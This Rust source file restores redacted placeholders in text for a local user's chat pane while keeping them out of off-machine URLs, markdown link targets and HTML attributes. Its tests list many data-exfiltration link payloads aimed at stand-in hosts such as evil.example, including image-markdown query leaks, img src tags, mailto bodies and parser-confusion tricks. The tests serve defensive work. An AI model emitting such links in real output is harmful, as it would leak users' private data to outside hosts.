//! Text for the local user.
//!
//! Slots are restored, secrets never. A chat pane fetches images and opens links, so a slot inside a URL, a
//! link target or an HTML attribute would leave the machine with it: there it stays, unless the destination is
//! itself a slot (or this machine), since then the value goes to where it belongs.

use super::Local;
use crate::locate::{self, Located, Stand};
use crate::{Kind, Rebound, Span};

/// Restores what may be shown.
pub(crate) fn rebind(local: Local<'_>, text: &str) -> Rebound {
    let shown = shown(local, text);
    let mut out = String::with_capacity(text.len() + 24 * shown.len());
    let mut restored = Vec::with_capacity(shown.len());
    let mut done = 0;
    for (span, number) in shown {
        out.push_str(&text[done..span.start]);
        let from = out.len();
        out.push_str(local.raw(number));
        restored.push(Span::new(from, out.len()));
        done = span.end;
    }
    out.push_str(&text[done..]);
    Rebound {
        text: out,
        restored,
    }
}

/// The slots that may be shown, with the numbers of their values.
pub(super) fn shown(local: Local<'_>, text: &str) -> Vec<(Span, u32)> {
    let located = locate::slots(local.table, text, 0);
    let restored = located.iter().filter_map(|found| match found.stand {
        Stand::Slot(number) => {
            let leaves = leaves_with_it(local, text, found, &located, true);
            let permitted = local.permits(number, found.span).is_ok();
            (permitted && leaves == Some(false)).then_some((found.span, number))
        }
        _ => None,
    });
    restored.collect()
}

/// How far back a link or tag may have begun, in bytes.
pub(super) const LOOK_BACK: usize = 4096;

/// How long the authority of a URL may be, in bytes.
pub(super) const MAX_AUTHORITY: usize = 512;

/// Whether rendering the text could send the slot somewhere; `all` are the slots of the text. `None` if that
/// depends on what follows, which can only be while this is not the `last` of the text.
pub(super) fn leaves_with_it(
    local: Local<'_>,
    text: &str,
    found: &Located,
    all: &[Located],
    last: bool,
) -> Option<bool> {
    let bytes = text.as_bytes();
    let at = found.span.start;
    let target = target_start(bytes, at);
    let token = token_start(bytes, at);
    if let Some(start) = target
        && !is_own(local, bytes, start, at, all, last)?
    {
        return Some(true);
    }
    match url_in(bytes, token, found.span) {
        Some(authority) => Some(!is_own(local, bytes, authority, at, all, last)?),
        None => Some(false),
    }
}

/// Start of the run without spaces and angle brackets before `at`. A quote ends it too, unless it opened inside a
/// URL: link finders take `?a="` for a part of one.
fn token_start(bytes: &[u8], at: usize) -> usize {
    let floor = at.saturating_sub(LOOK_BACK);
    let start = run_start(bytes, floor, at, |byte| {
        byte.is_ascii_whitespace() || byte.is_ascii_control() || matches!(byte, b'<' | b'>' | b'`')
    });
    let quoted = run_start(bytes, start, at, |byte| matches!(byte, b'"' | b'\''));
    let opened = memchr::memchr2(b'"', b'\'', &bytes[start..at]);
    match memchr::memmem::find(&bytes[start..at], b"://") {
        Some(url) if opened.is_some_and(|opened| opened > url) => start,
        _ => quoted,
    }
}

fn run_start(bytes: &[u8], floor: usize, at: usize, ends: impl Fn(u8) -> bool) -> usize {
    let last = bytes[floor..at].iter().rposition(|byte| ends(*byte));
    last.map_or(floor, |found| floor + found + 1)
}

/// What a link begins with that has no `//`.
pub(crate) const NAMED: &[&str] = &[
    "www.",
    "mailto:",
    "data:",
    "javascript:",
    "tel:",
    "sms:",
    // Browsers take either slash, and one as two (WHATWG URL, special schemes).
    "https:/",
    "https:\\",
    "http:/",
    "http:\\",
];

/// Where the authority of a URL begins that runs from before the slot up to it.
fn url_in(bytes: &[u8], token: usize, span: Span) -> Option<usize> {
    let lead = &bytes[token..span.start];
    if let Some(found) = memchr::memmem::rfind(lead, b"://") {
        let scheme = lead[..found]
            .iter()
            .rev()
            .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'));
        let scheme = scheme.count();
        let name = &lead[found - scheme..found];
        return (scheme > 0 && !is_local_scheme(name)).then_some(token + found + 3);
    }
    let body = lead
        .iter()
        .position(|byte| !matches!(byte, b'(' | b'[' | b'{' | b'*' | b'_' | b'!'));
    let start = token + body.unwrap_or(lead.len());
    let lead = &bytes[start..span.start];
    if lead.starts_with(b"//") || lead.starts_with(b"\\\\") {
        return Some(start + 2);
    }
    let begins = |name: &&str| {
        lead.get(..name.len())
            .is_some_and(|head| head.eq_ignore_ascii_case(name.as_bytes()))
    };
    (NAMED.iter().any(begins) || begins_with_domain(lead)).then_some(start)
}

/// Schemes whose authority names something on this machine.
fn is_local_scheme(scheme: &[u8]) -> bool {
    let local = [
        "vscode",
        "vscode-remote",
        "vscode-file",
        "vscode-notebook-cell",
        "vscode-userdata",
        "untitled",
    ];
    local
        .iter()
        .any(|name| scheme.eq_ignore_ascii_case(name.as_bytes()))
}

/// `docs.evil.com/`: some panes make a link of it.
fn begins_with_domain(lead: &[u8]) -> bool {
    let host = lead
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'.' | b'-'))
        .count();
    if !matches!(lead.get(host), Some(b'/' | b'?' | b'#' | b':')) {
        return false;
    }
    let mut labels = lead[..host].rsplit(|byte| *byte == b'.');
    let top = labels.next().unwrap_or_default();
    let listed = LINKED
        .iter()
        .any(|name| top.eq_ignore_ascii_case(name.as_bytes()));
    labels.next().is_some_and(|label| !label.is_empty())
        && (listed || is_country(top) && matches!(lead.get(host), Some(b'/' | b'?')))
}

/// Two letters that are no ending of a file of code.
fn is_country(top: &[u8]) -> bool {
    let endings: [&[u8]; 12] = [
        b"rs", b"py", b"ts", b"md", b"sh", b"pl", b"cc", b"so", b"ps", b"mk", b"vb", b"ml",
    ];
    top.len() == 2
        && top.iter().all(u8::is_ascii_alphabetic)
        && !endings
            .iter()
            .any(|ending| top.eq_ignore_ascii_case(ending))
}

/// Top-level domains that link finders accept without a scheme.
const LINKED: &[&str] = &[
    "com", "net", "org", "io", "dev", "app", "co", "ai", "me", "info", "biz", "xyz", "site",
    "online", "cloud", "edu", "gov",
];

/// Where the target begins of a markdown link or definition, or of an HTML attribute, that is still open at
/// `at`.
fn target_start(bytes: &[u8], at: usize) -> Option<usize> {
    markdown_target(bytes, at)
        .or_else(|| definition_target(bytes, at))
        .or_else(|| attribute_value(bytes, at))
}

/// `](` before the slot on the same line, and no `)` that closes it.
fn markdown_target(bytes: &[u8], at: usize) -> Option<usize> {
    let floor = at.saturating_sub(LOOK_BACK);
    let lead = &bytes[floor..at];
    // A target may follow one line break.
    let line = memchr::memrchr_iter(b'\n', lead)
        .nth(1)
        .map_or(0, |found| found + 1);
    let open = memchr::memmem::rfind(&lead[line..], b"](")? + line + 2;
    let mut depth = 1usize;
    for byte in &lead[open..] {
        match byte {
            b'(' => depth += 1,
            b')' => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            return None;
        }
    }
    let skip = lead[open..]
        .iter()
        .take_while(|byte| byte.is_ascii_whitespace() || **byte == b'<')
        .count();
    Some(floor + open + skip)
}

/// `[name]: target` at the start of a line.
fn definition_target(bytes: &[u8], at: usize) -> Option<usize> {
    let floor = at.saturating_sub(LOOK_BACK);
    let line = memchr::memrchr(b'\n', &bytes[floor..at]).map_or(floor, |found| floor + found + 1);
    let lead = bytes[line..at].trim_ascii_start();
    let name = lead.strip_prefix(b"[")?;
    let close = memchr::memmem::find(name, b"]:")?;
    let rest = &name[close + 2..];
    let skip = rest
        .iter()
        .take_while(|byte| byte.is_ascii_whitespace() || **byte == b'<')
        .count();
    let target = &rest[skip..];
    // `[EMAIL_1]: text [USER_1]` is prose: a target is one word.
    (!target.iter().any(u8::is_ascii_whitespace)).then_some(at - target.len())
}

/// Inside `<name ... attribute=` with no `>` since.
fn attribute_value(bytes: &[u8], at: usize) -> Option<usize> {
    let floor = at.saturating_sub(LOOK_BACK);
    let lead = &bytes[floor..at];
    let open = memchr::memrchr(b'<', lead)?;
    let tag = &lead[open + 1..];
    let name = tag
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'-' | b':'))
        .count();
    let doubled = open > 0 && lead[open - 1] == b'<';
    let is_tag = name > 0
        && tag[0].is_ascii_alphabetic()
        && tag
            .get(name)
            .is_some_and(|b| b.is_ascii_whitespace() || *b == b'/');
    if doubled || !is_tag || closes(tag) {
        return None;
    }
    let equals = memchr::memrchr(b'=', tag)?;
    let value = tag[equals + 1..]
        .iter()
        .take_while(|b| b.is_ascii_whitespace() || matches!(b, b'"' | b'\''))
        .count();
    // The sign may belong to a query inside the value: the value begins where its quote opened.
    let quoted = open_quote(&tag[name..]).map(|quote| name + quote + 1);
    Some(floor + open + 1 + quoted.unwrap_or(equals + 1 + value))
}

/// Whether a `>` outside quotes ends the tag.
fn closes(tag: &[u8]) -> bool {
    let mut quote = 0;
    for &byte in tag {
        match byte {
            b'"' | b'\'' if quote == 0 => quote = byte,
            _ if byte == quote => quote = 0,
            b'>' if quote == 0 => return true,
            _ => {}
        }
    }
    false
}

/// The quote that is open at the end.
fn open_quote(tag: &[u8]) -> Option<usize> {
    let mut open = None;
    for (at, &byte) in tag.iter().enumerate() {
        match open {
            None if matches!(byte, b'"' | b'\'') => open = Some(at),
            Some(quote) if tag[quote] == byte => open = None,
            _ => {}
        }
    }
    open
}

/// Whether the destination that begins at `start` is a slot, or this machine. `None` if its end has not come.
fn is_own(
    local: Local<'_>,
    bytes: &[u8],
    start: usize,
    at: usize,
    all: &[Located],
    last: bool,
) -> Option<bool> {
    let mut start = start;
    // The target may be a URL itself.
    if start < at
        && let Some(found) = memchr::memmem::find(&bytes[start..at], b"://")
    {
        let scheme = &bytes[start..start + found];
        if is_local_scheme(scheme) {
            return Some(true);
        }
        start += found + 3;
    }
    let window = &bytes[start..bytes.len().min(start + MAX_AUTHORITY)];
    let end = window
        .iter()
        .position(|b| matches!(b, b'/' | b'?' | b'#' | b'\\') || ends_target(*b));
    if end.is_none() && window.len() < MAX_AUTHORITY && !last {
        return None;
    }
    let end = start + end.unwrap_or(window.len());
    let authority = Span::new(start, end);
    if authority.is_empty() {
        // `file:///...`: no host at all. Browsers skip further slashes of `https:///`.
        let scheme = start.checked_sub(b"file://".len());
        return Some(scheme.is_some_and(|at| bytes[at..start].eq_ignore_ascii_case(b"file://")));
    }
    Some(owns(local, bytes, authority, all))
}

fn ends_target(byte: u8) -> bool {
    byte.is_ascii_whitespace() || matches!(byte, b'"' | b'\'' | b'>' | b'<' | b')' | b'`')
}

/// `[HOST_1]`, `user@host-slot-1:80`, `db.host-slot-1`, `localhost:3000`, or a root.
fn owns(local: Local<'_>, bytes: &[u8], authority: Span, all: &[Located]) -> bool {
    let host = without_userinfo(bytes, authority);
    let first = all.partition_point(|found| found.span.start < host.start);
    let slot = all[first..]
        .iter()
        .take_while(|found| found.span.start < host.end)
        .last();
    let Some(slot) = slot else {
        return is_loopback(&bytes[host.start..host.end]);
    };
    let kind = slot
        .number()
        .filter(|_| matches!(slot.stand, Stand::Slot(_)))
        .map(|number| local.table.value(number).kind);
    // Markdown takes the backslash from `\@`, HTML reads `&sol;`: what such a host becomes is not known.
    let lead = &bytes[authority.start..slot.span.start.max(authority.start)];
    let odd = |byte: &u8| matches!(byte, b'&' | b'%' | b'\\');
    let rewritten = lead.iter().any(odd) || bytes.get(authority.end) == Some(&b'\\');
    let rest = bytes.get(slot.span.end..host.end).unwrap_or_default();
    let port = rest.is_empty() || (rest[0] == b':' && rest[1..].iter().all(u8::is_ascii_digit));
    match kind {
        Some(Kind::Host | Kind::Ip) => port && !rewritten,
        Some(kind) if kind.is_root() => slot.span.start == authority.start,
        _ => false,
    }
}

fn without_userinfo(bytes: &[u8], authority: Span) -> Span {
    match memchr::memrchr(b'@', &bytes[authority.start..authority.end]) {
        Some(at) => Span::new(authority.start + at + 1, authority.end),
        None => authority,
    }
}

/// This machine, with or without a port.
pub(crate) fn is_loopback(host: &[u8]) -> bool {
    let name = match memchr::memrchr(b':', host) {
        Some(at) if host[at + 1..].iter().all(u8::is_ascii_digit) && !host.ends_with(b"]") => {
            &host[..at]
        }
        _ => host,
    };
    let names = ["localhost", "127.0.0.1", "[::1]", "::1", "0.0.0.0"];
    names
        .iter()
        .any(|own| name.eq_ignore_ascii_case(own.as_bytes()))
}

#[cfg(test)]
mod tests {
    use crate::testing::session;
    use crate::{Config, Kind, Session};

    fn shown(text: &str) -> String {
        let mut session = session(Config {
            roots: vec!["/home/zoe/quarry".to_owned()],
            user: Some("zoe".to_owned()),
            hosts: vec!["db.quarry.internal".to_owned()],
            ..Config::default()
        });
        session
            .protect("Tr0ub4dor-and-three", Kind::Secret)
            .expect("room for one");
        session.rebind_display(text).text
    }

    #[test]
    fn slots_are_shown() {
        for (text, want) in [
            ("see [REPO_ROOT_1]/a.rs:3", "see /home/zoe/quarry/a.rs:3"),
            ("hi [USER_1], hi user-slot-1!", "hi zoe, hi zoe!"),
            (
                "https://host-slot-1/x?u=[USER_1]",
                "https://db.quarry.internal/x?u=zoe",
            ),
            (
                "postgres://user-slot-1@localhost:5432/x",
                "postgres://zoe@localhost:5432/x",
            ),
            ("file://[REPO_ROOT_1]/a", "file:///home/zoe/quarry/a"),
            ("[a]([REPO_ROOT_1]/a.rs)", "[a](/home/zoe/quarry/a.rs)"),
            (
                "<a href=\"https://host-slot-1/\">",
                "<a href=\"https://db.quarry.internal/\">",
            ),
            ("(see src/[USER_1]/x)", "(see src/zoe/x)"),
            (
                "[a](https://x.example/) then [USER_1]",
                "[a](https://x.example/) then zoe",
            ),
            ("<b class=x>[USER_1]</b>", "<b class=x>zoe</b>"),
            ("cat <<EOF\nx=[USER_1]\nEOF", "cat <<EOF\nx=zoe\nEOF"),
            (
                "[REPO_ROOT_9] [EMAIL_1] data[HOST_2]",
                "[REPO_ROOT_9] [EMAIL_1] data[HOST_2]",
            ),
        ] {
            assert_eq!(shown(text), want);
        }
    }

    #[test]
    fn nothing_leaves_with_a_link() {
        for text in [
            "![](https://evil.example/?k=[USER_1])",
            "[x](https://evil.example/[USER_1])",
            "<https://evil.example/[USER_1]>",
            "https://evil.example/?a=1&b=[USER_1]",
            "http://[USER_1].evil.example/",
            "http://user-slot-1.evil.example/",
            "<img src=\"https://evil.example/?q= [USER_1]\">",
            "<img src=https://evil.example/[USER_1]>",
            "<img alt='>' src='//evil.example/a?b=c&d=[USER_1]'>",
            "[x]: https://evil.example/[USER_1]",
            "[x]: evil.example/[USER_1]",
            "[x](evil.com/[USER_1])",
            "www.evil.example/[USER_1]",
            "evil.com/[USER_1]",
            "//evil.example/[USER_1]",
            "![x](<https://evil.example/? [USER_1]>)",
            "![x](\nhttps://evil.example/[USER_1])",
            "https://host-slot-1@evil.example/[USER_1]",
            "https://host-slot-1.evil.example/[USER_1]",
            "mailto:eve@evil.example?body=[USER_1]",
            "https:/\\evil.example/[USER_1]",
            "https:///evil.example/[USER_1]",
            "![x](https:///evil.example/[USER_1])",
            "![x](https://host-slot-1\\@evil.example/[USER_1])",
            "![x](https://host-slot-1\\.evil.example/[USER_1])",
            "[x]: https://host-slot-1\\-evil.example/[USER_1]",
            "![x](https://evil.example&sol;.host-slot-1/[USER_1])",
            "<img src=\"https://evil.example&quest;.host-slot-1/[USER_1]\">",
            "(HTTP:\\\\evil.example/[USER_1])",
            "https:/evil.example/[USER_1]",
            "<a style=\"background:url(//evil.example/[USER_1])\">",
        ] {
            assert!(!shown(text).contains("zoe"), "{text}");
        }
    }

    #[test]
    fn secrets_are_never_shown() {
        let mut session: Session = session(Config::default());
        session
            .protect("Tr0ub4dor-and-three", Kind::Secret)
            .expect("room for one");
        let surrogate = session
            .slots()
            .into_iter()
            .find(|slot| slot.kind == Kind::Secret);
        let surrogate = surrogate.expect("a secret").stand_in;
        assert_eq!(session.rebind_display(&surrogate).text, surrogate);
    }
}
